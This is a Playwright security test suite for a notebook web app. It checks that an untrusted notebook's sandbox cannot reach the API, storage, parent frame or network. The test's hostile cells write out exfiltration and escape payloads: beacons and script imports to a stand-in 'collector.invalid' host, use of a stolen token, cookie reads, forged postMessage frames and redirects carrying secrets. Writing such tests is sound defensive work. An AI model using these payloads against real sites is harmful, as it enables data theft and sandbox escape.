import type { Browser, Page } from "playwright";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  type App,
  cellText,
  createNotebook,
  notebookFrame,
  openPage,
  startApp,
  startBrowser,
  tokenOf,
} from "./app.ts";

/**
 * A stranger's notebook tries everything a page could try. Each attempt is a cell that displays either
 * "REFUSED: why" or "SUCCEEDED: what"; nothing may succeed, and the shell must go on working.
 */
let app: App;
let browser: Browser;

beforeAll(async () => {
  app = await startApp();
  browser = await startBrowser();
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

const API_PATHS = [
  "/",
  "/api/health",
  "/api/lake",
  "/api/notebooks",
  "/api/notebooks/tour",
  "/api/runs",
  "/api/jobs",
  "/api/jobs/events",
  "/api/strategies",
  "/api/openapi.json",
];

/** Expressions that resolve to something when an attempt got through, and throw or reject when it did not. */
function attempts(origin: string, token: string): Record<string, string> {
  const load = (tag: string, attribute: string, address: string): string =>
    `new Promise((resolve, reject) => { const element = document.createElement("${tag}"); element.${attribute} = "${address}"; element.onload = () => resolve("loaded"); element.onerror = () => reject(new Error("not loaded")); document.head.append(element); })`;
  const all: Record<string, string> = {
    "fetch without credentials": `fetch("${origin}/api/health", { credentials: "omit" }).then((r) => r.status)`,
    "fetch with credentials": `fetch("${origin}/api/health", { credentials: "include" }).then((r) => r.status)`,
    "fetch with a stolen token": `fetch("${origin}/api/health", { headers: { "x-walkforward-token": "${token}" } }).then((r) => r.status)`,
    "fetch in no-cors mode": `fetch("${origin}/api/lake", { mode: "no-cors" }).then((r) => r.type)`,
    XMLHttpRequest: `new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open("GET", "${origin}/api/health"); request.onload = () => resolve(request.status); request.onerror = () => reject(new Error("no answer")); request.send(); })`,
    WebSocket: `new Promise((resolve, reject) => { const socket = new WebSocket("${origin.replace("http", "ws")}/api"); socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("no socket")); })`,
    EventSource: `new Promise((resolve, reject) => { const source = new EventSource("${origin}/api/jobs/events"); source.onopen = () => resolve("open"); source.onerror = () => reject(new Error("no events")); })`,
    beacon: `Promise.resolve(navigator.sendBeacon("https://collector.invalid/x", "secret")).then(() => new Promise((resolve, reject) => addEventListener("securitypolicyviolation", (e) => reject(new Error(e.violatedDirective)), { once: true })))`,
    "parent document": `Promise.resolve(parent.document.title)`,
    "top document": `Promise.resolve(top.document.body.innerHTML)`,
    localStorage: `Promise.resolve(localStorage.length)`,
    sessionStorage: `Promise.resolve(sessionStorage.length)`,
    cookies: `Promise.resolve(document.cookie)`,
    indexedDB: `new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = () => resolve("open"); open.onerror = () => reject(open.error); })`,
    caches: `caches.open("x").then(() => "open")`,
    "service worker": `navigator.serviceWorker.register("${origin}/assets/x.js").then(() => "registered")`,
    "navigate the top window": `(() => { top.location.href = "https://elsewhere.invalid/"; return Promise.resolve("navigated"); })()`,
    "pop-up": `Promise.resolve(window.open("https://elsewhere.invalid/") ?? Promise.reject(new Error("no window")))`,
    "worker from the origin": `new Promise((resolve, reject) => { const worker = new Worker("${origin}/assets/x.js"); worker.onmessage = () => resolve("ran"); worker.onerror = () => reject(new Error("no worker")); })`,
    "fetch inside a worker of its own": `new Promise((resolve, reject) => { const text = 'fetch("${origin}/api/health").then((r) => postMessage("SUCCEEDED " + r.status), (e) => postMessage("no: " + e))'; const worker = new Worker(URL.createObjectURL(new Blob([text]))); worker.onmessage = (e) => e.data.startsWith("SUCC") ? resolve(e.data) : reject(new Error(e.data)); })`,
    "importScripts of the API inside a worker": `new Promise((resolve, reject) => { const text = 'try { importScripts("${origin}/api/lake"); postMessage("SUCCEEDED") } catch (e) { postMessage("no: " + e) }'; const worker = new Worker(URL.createObjectURL(new Blob([text]))); worker.onmessage = (e) => e.data.startsWith("SUCC") ? resolve(e.data) : reject(new Error(e.data)); })`,
    "image beacon to another host": load("img", "src", "https://collector.invalid/pixel.png"),
    "style sheet from another host": `new Promise((resolve, reject) => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "https://collector.invalid/x.css"; link.onload = () => resolve("loaded"); link.onerror = () => reject(new Error("not loaded")); document.head.append(link); })`,
    "script from another host": load("script", "src", "https://collector.invalid/x.js"),
    "import from another host": `import(["https:", "", "collector.invalid", "x.js"].join("/")).then(() => "imported")`,
    "frame of the shell": `new Promise((resolve, reject) => { const frame = document.createElement("iframe"); frame.src = "${origin}/"; frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML || Promise.reject(new Error("empty"))) } catch (e) { reject(e) } }; document.body.append(frame); })`,
    RTCPeerConnection: `Promise.resolve(new RTCPeerConnection())`,
  };
  for (const path of API_PATHS) {
    all[`script tag at ${path}`] = load("script", "src", `${origin}${path}`);
    all[`import() of ${path}`] = `(0, eval)('import("${origin}${path}")').then(() => "imported")`;
  }
  return all;
}

function hostileNotebook(expressions: Record<string, string>): string {
  const cells = Object.entries(expressions).map(
    ([name, expression], i) =>
      `  <script id="${i + 1}" type="module">\ndisplay(await (async () => { try { return ${JSON.stringify(name)} + " SUCCEEDED: " + (await ${expression}); } catch (error) { return ${JSON.stringify(name)} + " REFUSED: " + error; } })())\n  </script>`,
  );
  return `<!doctype html>\n<notebook>\n  <title>Hostile</title>\n${cells.join("\n")}\n</notebook>\n`;
}

async function openTrusted(page: Page, name: string): Promise<void> {
  await page.getByRole("button", { name: "Run this notebook" }).click();
  await notebookFrame(page).locator("[data-cell-id]").first().waitFor();
  await expect.poll(() => page.title()).toContain(name);
}

describe("a stranger's notebook", () => {
  test("is shown and not run until the reader says so", async () => {
    const context = await browser.newContext();
    const { page } = await openPage(context, app);
    const text = `<!doctype html>\n<notebook>\n  <title>Not yet</title>\n  <script id="1" type="module">\ndisplay("it ran " + 6 * 7)\n  </script>\n</notebook>\n`;
    const id = await createNotebook(page, app, "Not yet", text);
    await page.goto(`${app.url}/#/notebook/${id}`);
    await page.getByRole("button", { name: "Run this notebook" }).waitFor();
    await notebookFrame(page).locator('[data-cell-id="1"]').waitFor();
    expect(await notebookFrame(page).getByText("it ran 42").count()).toBe(0);
    await page.getByRole("button", { name: "Run this notebook" }).click();
    await notebookFrame(page).getByText("it ran 42").waitFor();
    await context.close();
  });

  test("reaches neither the API, nor the network, nor storage, nor the shell", async () => {
    const context = await browser.newContext();
    const { page, complaints } = await openPage(context, app);
    const tries = attempts(app.url, await tokenOf(page));
    const id = await createNotebook(page, app, "Hostile", hostileNotebook(tries));
    await page.goto(`${app.url}/#/notebook/${id}`);
    await openTrusted(page, "Hostile");
    const names = Object.keys(tries);
    for (const [i, name] of names.entries()) {
      await expect
        .poll(() => cellText(page, i + 1), { timeout: 30_000, message: name })
        .toMatch(/REFUSED|SUCCEEDED|waits|failed|refused/i);
      expect(await cellText(page, i + 1), name).not.toContain("SUCCEEDED:");
    }
    expect(complaints.foreignRequests).toEqual([]);
    expect(page.url()).toContain(app.url);
    await context.close();
  }, 240_000);

  test("cannot forge messages of the frame or get a second port", async () => {
    const context = await browser.newContext();
    const { page } = await openPage(context, app);
    const forge = `<!doctype html>\n<notebook>\n  <title>Forger</title>\n  <script id="1" type="module">\nlet ports = 0;\naddEventListener("message", (event) => { ports += event.ports.length; });\nfor (const message of ["walkforward:frame-hello", { type: "walkforward:frame-hello" }, { type: "source", source: "owned", title: "owned" }, { type: "request", id: 1, request: { method: "saveRun", params: {} } }]) parent.postMessage(message, "*");\nawait new Promise((resolve) => setTimeout(resolve, 300));\ndisplay("ports received: " + ports);\n  </script>\n</notebook>\n`;
    const id = await createNotebook(page, app, "Forger", forge);
    await page.goto(`${app.url}/#/notebook/${id}`);
    await openTrusted(page, "Forger");
    await notebookFrame(page).getByText("ports received: 0").waitFor();
    const stored = await page.evaluate(
      async ([address, token]) =>
        (await fetch(address, { headers: { "x-walkforward-token": token } })).json(),
      [`${app.url}/api/notebooks/${id}`, await tokenOf(page)],
    );
    expect(stored.text).toBe(forge);
    await context.close();
  });

  test("that never answers is stopped and shown again without running, and the shell works on", async () => {
    const context = await browser.newContext();
    const { page } = await openPage(context, app);
    const loop = `<!doctype html>\n<notebook>\n  <title>Endless</title>\n  <script id="1" type="module">\nfor (;;) {}\n  </script>\n</notebook>\n`;
    const id = await createNotebook(page, app, "Endless", loop);
    await page.goto(`${app.url}/#/notebook/${id}`);
    await page.getByRole("button", { name: "Run this notebook" }).click();
    await page.getByText("does not answer").waitFor();
    await page.getByRole("button", { name: /^Stop/ }).click();
    await notebookFrame(page).locator('[data-cell-id="1"]').waitFor();
    await page.getByRole("link", { name: "Data" }).first().click();
    await page.getByRole("heading", { name: "Data" }).waitFor();
    await context.close();
  });

  test("that navigates its own frame away sends nothing anywhere", async () => {
    const context = await browser.newContext();
    const { page, complaints } = await openPage(context, app);
    const leave = `<!doctype html>\n<notebook>\n  <title>Leaver</title>\n  <script id="1" type="module">\nlocation.href = "https://elsewhere.invalid/?secret=1";\n  </script>\n</notebook>\n`;
    const id = await createNotebook(page, app, "Leaver", leave);
    await page.goto(`${app.url}/#/notebook/${id}`);
    await page.getByRole("button", { name: "Run this notebook" }).click();
    await page.getByRole("link", { name: "Data" }).first().click();
    await page.getByRole("heading", { name: "Data" }).waitFor();
    expect(complaints.foreignRequests).toEqual([]);
    await context.close();
  });
});
